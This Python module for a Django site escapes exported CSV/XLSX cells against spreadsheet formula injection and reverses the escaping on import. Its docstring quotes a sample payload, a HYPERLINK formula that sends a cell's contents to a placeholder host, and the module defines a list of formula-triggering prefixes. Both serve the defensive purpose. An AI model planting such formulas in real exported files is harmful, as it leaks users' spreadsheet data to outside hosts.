"""Cells for the CSV and XLSX files we write, safe from formula injection (OWASP CSV injection).

A spreadsheet runs a text cell starting with one of ``FORMULA_STARTS`` as a formula, so a
service named ``=HYPERLINK("http://x/?"&A1,"Klikni")`` would run when a coordinator opens the
file. Such a cell gets a leading ``'``, which spreadsheets read as "this is text". Numbers,
dates and empty cells stay as they are: only text can smuggle a formula in.

django-import-export's ``IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT`` is not enough: it only drops
a leading ``=`` (changing the text and leaving ``+ - @`` formulas alone) and turns every cell,
numbers and empty ones too, into text.
"""

import csv

from django.http import HttpResponse
from django.utils.functional import Promise
from import_export.formats import base_formats

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if isinstance(value, Promise):  # a lazy translation is text too
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values) -> list:
    return [safe_cell(value) for value in values]


def csv_response(header, rows, filename: str) -> HttpResponse:
    """A CSV download as Excel in a Czech locale opens it directly: UTF-8 with a BOM, ``;``
    between cells (``,`` is the decimal comma there), every cell made safe. The one way the
    site writes CSV (search results, planning tables)."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = csv.writer(response, delimiter=";")
    writer.writerow(safe_row(header))
    writer.writerows(safe_row(row) for row in rows)
    return response


def unescaped_cell(value):
    """The text ``safe_cell`` was given, so that an exported file imports back unchanged."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


class CSV(base_formats.CSV):
    """django-import-export's CSV, served with its charset like every CSV of ours."""

    CONTENT_TYPE = "text/csv; charset=utf-8"
